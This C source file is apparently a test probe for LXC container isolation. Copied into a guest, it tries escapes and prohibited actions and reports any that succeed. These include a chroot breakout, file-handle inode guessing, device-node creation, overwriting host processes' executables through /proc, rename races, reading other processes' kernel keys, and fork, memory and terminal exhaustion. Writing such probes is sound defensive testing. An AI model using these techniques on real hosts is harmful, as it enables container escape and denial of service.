/*
 * A guest's tool for what no shell can do. Each command tries one thing and prints a line for whatever it got that no
 * guest should get; a host that holds leaves nothing to print. Linked statically: it is copied into containers.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/bpf.h>
#include <linux/btrfs.h>
#include <linux/fs.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#define COUNT(array) (sizeof(array) / sizeof((array)[0]))
#define PATH_LIMIT 4096

_Noreturn static void fail(const char *what) {
    perror(what);
    exit(1);
}

static long number(const char *text) {
    return strtol(text, NULL, 10);
}

/* ---- files ---- */

static bool opens(const char *path, int flags) {
    int fd = open(path, flags | O_NONBLOCK | O_NOCTTY | O_CLOEXEC | O_NOFOLLOW);

    if (fd < 0) return false;
    (void)close(fd);
    return true;
}

static bool is_process(const char *directory, const char *name) {
    return strcmp(directory, "/proc") == 0 && (strspn(name, "0123456789") == strlen(name) || strstr(name, "self") != NULL);
}

/* Every regular file beneath directory that opens for writing, but those of processes. */
static void writable_beneath(const char *directory) {
    DIR *entries = opendir(directory);

    if (entries == NULL) return;
    for (struct dirent *entry = readdir(entries); entry != NULL; entry = readdir(entries)) {
        char path[PATH_LIMIT];
        struct stat file;

        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) continue;
        if (is_process(directory, entry->d_name)) continue;
        (void)snprintf(path, sizeof(path), "%s/%s", directory, entry->d_name);
        if (lstat(path, &file) < 0) continue;
        if (S_ISDIR(file.st_mode)) writable_beneath(path);
        if (S_ISREG(file.st_mode) && opens(path, O_WRONLY)) puts(path);
    }
    (void)closedir(entries);
}

static int writable(char **arguments) {
    for (; *arguments != NULL; arguments++) writable_beneath(*arguments);
    return 0;
}

/* Every device number of a kind, by a node of one's own: those that open. */
static int devices(char **arguments) {
    mode_t kind = strcmp(arguments[0], "block") == 0 ? S_IFBLK : S_IFCHR;
    const char *node = arguments[1];

    for (unsigned major_number = 1; major_number < 260; major_number++) {
        for (unsigned minor_number = 0; minor_number < 4; minor_number++) {
            (void)unlink(node);
            if (mknod(node, kind | 0600, makedev(major_number, minor_number)) < 0) continue;
            if (opens(node, O_RDONLY) || opens(node, O_WRONLY)) printf("%u:%u\n", major_number, minor_number);
        }
    }
    (void)unlink(node);
    return 0;
}

/* A handle made up of an inode's number, which skips every directory above it. */
static int handle(char **arguments) {
    struct {
        struct file_handle head;
        unsigned char bytes[MAX_HANDLE_SZ];
    } guess = {.head = {.handle_bytes = 8, .handle_type = 1}};
    int place = open(arguments[0], O_RDONLY | O_DIRECTORY);

    if (place < 0) fail(arguments[0]);
    for (unsigned inode = 1; inode < 256; inode++) {
        memcpy(guess.head.f_handle, &inode, sizeof(inode));
        int fd = open_by_handle_at(place, &guess.head, O_RDONLY);
        if (fd >= 0) printf("inode %u\n", inode);
        if (fd >= 0) (void)close(fd);
    }
    return 0;
}

/* Out of a root within the root, by the way up that the kernel forgets: ends in the outermost root there is. */
static int climb(char **arguments) {
    struct stat guest, here;

    if (stat("/etc", &guest) < 0) fail("/etc");
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    if (outside < 0 || chroot(arguments[0]) < 0 || fchdir(outside) < 0) fail(arguments[0]);
    for (int i = 0; i < 100; i++) {
        if (chdir("..") < 0) fail("..");
    }
    if (chroot(".") == 0 && stat("/etc", &here) == 0 && here.st_dev != guest.st_dev) puts("another root");
    return 0;
}

/* Two names that are each other's at any moment, until it is killed. */
static int swap(char **arguments) {
    (void)puts("swapping");
    (void)fflush(stdout);
    while (syscall(SYS_renameat2, AT_FDCWD, arguments[0], AT_FDCWD, arguments[1], 2 /* RENAME_EXCHANGE */) == 0 ||
           errno == ENOENT) {
    }
    fail("renameat2");
}

/* ---- processes that come from the host ---- */

static void look_at(const char *process, const struct stat *root) {
    static const char *const DOORS[] = {"root", "cwd", "fd/0", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8"};
    char path[PATH_LIMIT];
    struct stat place;

    for (size_t i = 0; i < COUNT(DOORS); i++) {
        (void)snprintf(path, sizeof(path), "/proc/%s/%s/etc", process, DOORS[i]);
        if (stat(path, &place) == 0 && place.st_dev != root->st_dev) printf("%s leads out\n", path);
    }
    (void)snprintf(path, sizeof(path), "/proc/%s/exe", process);
    int program = open(path, O_RDONLY | O_CLOEXEC);
    if (program < 0) return;
    (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", program);
    int changed = open(path, O_WRONLY | O_CLOEXEC);
    char byte;
    /* The copy in memory that LXC makes of itself opens, but is sealed. */
    if (fstat(program, &place) == 0 && place.st_dev != root->st_dev && changed >= 0 && pread(program, &byte, 1, 0) == 1 &&
        pwrite(changed, &byte, 1, 0) == 1) {
        printf("the program of %s can be written\n", process);
    }
    if (changed >= 0) (void)close(changed);
    (void)close(program);
}

/* Whatever enters is looked at while it still has something of the host, until it is killed. */
static int ambush(char **arguments) {
    struct stat root;

    (void)arguments;
    if (stat("/etc", &root) < 0) fail("/etc");
    (void)setvbuf(stdout, NULL, _IOLBF, 0);
    (void)puts("waiting");
    for (;;) {
        DIR *processes = opendir("/proc");
        if (processes == NULL) fail("/proc");
        for (struct dirent *entry = readdir(processes); entry != NULL; entry = readdir(processes)) {
            if (strspn(entry->d_name, "0123456789") == strlen(entry->d_name)) look_at(entry->d_name, &root);
        }
        (void)closedir(processes);
    }
}

/* ---- sockets ---- */

static int to_abstract(const char *name) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t length = strlen(name);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

    if (fd < 0) fail("socket");
    if (length + 2 > sizeof(address.sun_path)) fail(name);
    memcpy(address.sun_path + 1, name, length);
    socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length);
    if (connect(fd, (struct sockaddr *)&address, size) == 0) return fd;
    /* LXC 5 counts a zero byte behind the name. */
    if (connect(fd, (struct sockaddr *)&address, size + 1) == 0) return fd;
    (void)close(fd);
    return -1;
}

/* Whether LXC's monitor does what it is told by a number over its socket. */
static int command(char **arguments) {
    struct {
        int number, length;
        const void *data;
    } request = {.number = (int)number(arguments[1])};
    char answer[64];
    struct timeval patience = {.tv_sec = 2};
    int fd = to_abstract(arguments[0]);

    if (fd < 0) return 0;
    (void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
    if (send(fd, &request, sizeof(request), MSG_NOSIGNAL) < 0) return 0;
    ssize_t got = recv(fd, answer, sizeof(answer), 0);
    int result = 0;
    if (got >= (ssize_t)sizeof(result)) memcpy(&result, answer, sizeof(result));
    if (got > 0 && result >= 0) printf("command %d is answered with %d\n", request.number, result);
    return 0;
}

/* ---- system calls ---- */

static long bpf(int what, union bpf_attr *attributes) {
    return syscall(SYS_bpf, what, attributes, sizeof(*attributes));
}

static bool bpf_map(void) {
    union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    return bpf(BPF_MAP_CREATE, &map) >= 0;
}

static bool bpf_program(void) {
    struct bpf_insn allow_all[] = {
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 1},
        {.code = BPF_JMP | BPF_EXIT},
    };
    static const unsigned TYPES[] = {BPF_PROG_TYPE_CGROUP_DEVICE, BPF_PROG_TYPE_SOCKET_FILTER, BPF_PROG_TYPE_KPROBE};
    bool loaded = false;

    for (size_t i = 0; i < COUNT(TYPES); i++) {
        union bpf_attr program = {.prog_type = TYPES[i],
                                  .insn_cnt = COUNT(allow_all),
                                  .insns = (unsigned long)allow_all,
                                  .license = (unsigned long)"GPL"};
        loaded = loaded || bpf(BPF_PROG_LOAD, &program) >= 0;
    }
    return loaded;
}

static bool bpf_objects_of_others(void) {
    union bpf_attr first = {.start_id = 0};
    return bpf(BPF_PROG_GET_NEXT_ID, &first) == 0;
}

static bool perf_of_machine(void) {
    struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof(event), .config = PERF_COUNT_SW_CPU_CLOCK};
    return syscall(SYS_perf_event_open, &event, -1, 0, -1, 0) >= 0;
}

static bool perf_of_kernel(void) {
    struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof(event), .config = PERF_COUNT_SW_CPU_CLOCK};
    return syscall(SYS_perf_event_open, &event, 0, -1, -1, 0) >= 0;
}

static bool kernel_log(void) {
    char log[4096];
    return syscall(SYS_syslog, 3 /* SYSLOG_ACTION_READ_ALL */, log, sizeof(log)) > 0;
}

static bool kernel_log_size(void) {
    return syscall(SYS_syslog, 10 /* SYSLOG_ACTION_SIZE_BUFFER */, NULL, 0) > 0;
}

static bool clock_of_host(void) {
    struct timeval now;
    return gettimeofday(&now, NULL) == 0 && settimeofday(&now, NULL) == 0;
}

static bool ports(void) {
    return iopl(3) == 0 || ioperm(0x80, 1, 1) == 0;
}

static bool module(void) {
    return syscall(SYS_init_module, "", 0, "") == 0 || errno != EPERM;
}

static bool kernel(void) {
    return syscall(SYS_kexec_load, 0, 0, NULL, 0) == 0 || errno != EPERM;
}

static bool accounting(void) {
    return syscall(SYS_acct, NULL) == 0;
}

static bool swapping_on(void) {
    return syscall(SYS_swapon, "/dev/null", 0) == 0 || errno != EPERM;
}

static bool audit_rules(void) {
    struct {
        struct nlmsghdr head;
        struct audit_status status;
    } change = {
        .head = {.nlmsg_len = sizeof(change), .nlmsg_type = AUDIT_SET, .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK},
        .status = {.mask = AUDIT_STATUS_RATE_LIMIT},
    };
    struct {
        struct nlmsghdr head;
        struct nlmsgerr error;
        char rest[1024];
    } answer;
    struct timeval patience = {.tv_sec = 1};
    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);

    if (fd < 0) return false;
    (void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
    if (send(fd, &change, sizeof(change), 0) < 0) return false;
    return recv(fd, &answer, sizeof(answer), 0) > 0 && answer.head.nlmsg_type == NLMSG_ERROR && answer.error.error == 0;
}

static bool faults_of_kernel(void) {
    /* Faults in kernel mode can be held up by it, which many exploits of races need. */
    return syscall(SYS_userfaultfd, O_CLOEXEC) >= 0;
}

static bool memory_of_init(void) {
    return opens("/proc/1/../kcore", O_RDONLY) || opens("/dev/mem", O_RDONLY) || opens("/dev/kmsg", O_RDONLY);
}

static const struct attempt {
    const char *name;
    bool (*succeeds)(void);
} ATTEMPTS[] = {
    {"accounting", accounting},
    {"audit rules", audit_rules},
    {"bpf map", bpf_map},
    {"bpf objects of others", bpf_objects_of_others},
    {"bpf program", bpf_program},
    {"clock of the host", clock_of_host},
    {"another kernel", kernel},
    {"kernel log", kernel_log},
    {"size of the kernel log", kernel_log_size},
    {"kernel memory", memory_of_init},
    {"kernel module", module},
    {"page faults of the kernel", faults_of_kernel},
    {"perf of the kernel", perf_of_kernel},
    {"perf of the machine", perf_of_machine},
    {"input and output ports", ports},
    {"swap", swapping_on},
};

static int calls(char **arguments) {
    (void)arguments;
    for (size_t i = 0; i < COUNT(ATTEMPTS); i++) {
        if (ATTEMPTS[i].succeeds()) puts(ATTEMPTS[i].name);
    }
    return 0;
}

/* ---- keys ---- */

/* Holds a key that every process of the same user may read. */
static int hold_key(char **arguments) {
    long key = syscall(SYS_add_key, "user", arguments[0], arguments[1], strlen(arguments[1]), -3 /* the session's keyring */);

    if (key < 0) fail("add_key");
    if (syscall(SYS_keyctl, 5 /* KEYCTL_SETPERM */, key, 0x3f3f0000) < 0) fail("keyctl");
    printf("key %ld\n", key);
    (void)fflush(stdout);
    return pause();
}

/* The key of a number, or one of a name, told if it is found. */
static int read_key(char **arguments) {
    char secret[256];
    long key = number(arguments[0]);

    for (int i = 0; i < 2; i++) {
        long length = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, secret, sizeof(secret));
        if (length >= 0) printf("%.*s\n", (int)length, secret);
        key = syscall(SYS_request_key, "user", arguments[1], NULL, 0);
    }
    return 0;
}

/* ---- more than there is ---- */

/* Takes pseudo-terminals until there are none, then holds them. */
static int terminals(char **arguments) {
    int count = 0;

    while (open(arguments[0], O_RDWR | O_NOCTTY) >= 0) count++;
    printf("%d terminals\n", count);
    (void)fflush(stdout);
    return pause();
}

/* Touches so many MiB, then holds them. */
static int memory(char **arguments) {
    size_t size = (size_t)number(arguments[0]) << 20;
    char *bytes = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

    if (bytes == MAP_FAILED) fail("mmap");
    for (size_t i = 0; i < size; i += 4096) bytes[i] = 1;
    puts("touched");
    (void)fflush(stdout);
    return pause();
}

/* Forks children that sleep until there can be no more, at most as many as are given: how many there are. */
static int forks(char **arguments) {
    long most = number(arguments[0]);
    long count = 0;

    for (; count < most; count++) {
        pid_t child = fork();
        if (child < 0) break;
        if (child == 0) {
            (void)pause();
            _exit(0);
        }
    }
    printf("%ld children\n", count);
    (void)fflush(stdout);
    return pause();
}

/* Makes so many cgroups in a directory, at most: how many it got. */
static int cgroups(char **arguments) {
    long most = number(arguments[1]);
    long count = 0;

    for (; count < most; count++) {
        char path[PATH_LIMIT];
        (void)snprintf(path, sizeof(path), "%s/c%ld", arguments[0], count);
        if (mkdir(path, 0755) < 0) break;
    }
    printf("%ld cgroups\n", count);
    return 0;
}

/* Directories in each other, deeper than any path can tell: how many it got. */
static int depth(char **arguments) {
    long most = number(arguments[1]);
    long count = 0;

    if (chdir(arguments[0]) < 0) fail(arguments[0]);
    for (; count < most; count++) {
        if (mkdir("deeper", 0755) < 0 || chdir("deeper") < 0) break;
    }
    printf("%ld levels\n", count);
    return 0;
}

/* Makes subvolumes and snapshots of btrfs in a directory that is one, in every way that there is: what it got. */
static int subvolume(char **arguments) {
    static const struct {
        const char *name;
        unsigned long request;
    } WAYS[] = {
        {"subvolume", BTRFS_IOC_SUBVOL_CREATE},
        {"subvolume by version 2", BTRFS_IOC_SUBVOL_CREATE_V2},
        {"snapshot", BTRFS_IOC_SNAP_CREATE},
        {"snapshot by version 2", BTRFS_IOC_SNAP_CREATE_V2},
    };
    int directory = open(arguments[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);

    if (directory < 0) fail(arguments[0]);
    for (size_t i = 0; i < COUNT(WAYS); i++) {
        for (unsigned long high = 0; high < 2; high++) {
            union {
                struct btrfs_ioctl_vol_args first;
                struct btrfs_ioctl_vol_args_v2 second;
            } args;
            memset(&args, 0, sizeof(args));
            args.first.fd = directory;
            char *name = WAYS[i].request == BTRFS_IOC_SUBVOL_CREATE || WAYS[i].request == BTRFS_IOC_SNAP_CREATE
                             ? args.first.name
                             : args.second.name;
            (void)snprintf(name, 32, "way%zu.%lu", i, high);
            /* The kernel looks at the lower half of the request alone. */
            if (syscall(SYS_ioctl, directory, WAYS[i].request | high << 40, &args) == 0) {
                printf("made a %s\n", WAYS[i].name);
            }
        }
    }
    (void)close(directory);
    return 0;
}

/* Takes a directory and what will be made in it out of the project whose quota counts them: whether it did. */
static int project(char **arguments) {
    int file = open(arguments[0], O_RDONLY | O_CLOEXEC);
    struct fsxattr attributes;

    if (file < 0) fail(arguments[0]);
    memset(&attributes, 0, sizeof(attributes));
    if (ioctl(file, FS_IOC_FSSETXATTR, &attributes) == 0 && ioctl(file, FS_IOC_FSGETXATTR, &attributes) == 0
        && attributes.fsx_projid == 0) {
        printf("left the project\n");
    }
    (void)close(file);
    return 0;
}

static const struct command_line {
    const char *name;
    int (*run)(char **arguments);
    int arguments;
} COMMANDS[] = {
    {"ambush", ambush, 0},   {"calls", calls, 0},         {"cgroups", cgroups, 2},
    {"climb", climb, 1},     {"command", command, 2},     {"depth", depth, 2},
    {"devices", devices, 2}, {"forks", forks, 1},         {"handle", handle, 1},
    {"hold-key", hold_key, 2}, {"memory", memory, 1},     {"project", project, 1},
    {"read-key", read_key, 2}, {"subvolume", subvolume, 1}, {"swap", swap, 2},
    {"terminals", terminals, 1}, {"writable", writable, 1},
};

int main(int argc, char **argv) {
    for (size_t i = 0; i < COUNT(COMMANDS); i++) {
        if (argc > 1 && strcmp(argv[1], COMMANDS[i].name) == 0 && argc - 2 >= COMMANDS[i].arguments) {
            return COMMANDS[i].run(argv + 2);
        }
    }
    (void)fputs("usage: hostile COMMAND ARGUMENT…; see its source\n", stderr);
    return 2;
}
